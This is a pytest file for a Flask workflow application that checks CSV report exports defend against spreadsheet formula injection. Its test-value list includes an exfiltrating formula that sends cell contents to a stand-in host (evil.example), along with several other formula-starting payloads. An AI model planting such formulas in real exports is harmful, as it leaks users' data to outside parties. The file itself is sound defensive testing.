"""Every CSV export neutralises cells a spreadsheet would run as formulas, in every column, and says its
Content-Type once."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient

from gpect_workflow.models import Organisation, Person, PersonRole, Plan, Task
from gpect_workflow.models.committee import CommitteeDecision
from gpect_workflow.services.context import session
from gpect_workflow.services.csv_export import FORMULA_STARTS, csv_bytes, neutralise
from tests.conftest import sign_in
from tests.web.test_plan_reports import plan  # noqa: F401 - the fixture

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1"]


def table(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_neutral(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{cell!r} would run as a formula"


@pytest.mark.parametrize("value", HOSTILE)
def test_every_column_is_neutralised(value: str) -> None:
    width = 4
    rows = [[value if column == position else "ok" for column in range(width)] for position in range(width)]
    read = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert_neutral(read)
    assert [row[index] for index, row in enumerate(read)] == ["'" + value] * width
    assert neutralise("Plan emplois") == "Plan emplois" and neutralise(None) == "" and neutralise(12) == "12"


@pytest.fixture
def hostile_plan(plan: Plan) -> Plan:  # noqa: F811 - the fixture imported above
    """The review plan with hostile names in every free text a report shows."""
    plan.name = HOSTILE[0]
    for index, task in enumerate(session().scalars(sa.select(Task).where(Task.plan_id == plan.id))):
        task.status_reason = HOSTILE[index % len(HOSTILE)]
    for index, organisation in enumerate(session().scalars(sa.select(Organisation))):
        organisation.name = f"{HOSTILE[1 + index % 5]} {index}"
    for index, person in enumerate(session().scalars(sa.select(Person))):
        person.name = f"{HOSTILE[2 + index % 4]} {index}"
    for decision in session().scalars(sa.select(CommitteeDecision)):
        decision.minutes = HOSTILE[3]
    session().commit()
    return plan


def test_the_plan_and_committee_reports_neutralise_every_hostile_name(
    client: FlaskClient, hostile_plan: Plan, create_user: Any
) -> None:
    admin = create_user("admin@example.org", PersonRole.ADMIN)
    session().commit()
    sign_in(client, admin)
    for url in (f"/plans/{hostile_plan.id}/report.csv", "/committee/report.csv"):
        rows = table(client.get(url))
        assert_neutral(rows)
        cells = {cell for row in rows for cell in row}
        assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells
        assert any(cell.startswith("'-") for cell in cells) and any(cell.startswith("'+") for cell in cells)
        assert any(cell.startswith("'\t") for cell in cells) and any(cell.startswith("'\r") for cell in cells)


def test_the_partners_import_example_is_neutral_and_says_its_charset_once(
    client: FlaskClient, create_user: Any
) -> None:
    admin = create_user("admin@example.org", PersonRole.ADMIN)
    session().commit()
    rows = table(sign_in(client, admin).get("/partners/import/example.csv"))
    assert_neutral(rows)
    assert len(rows) > 1
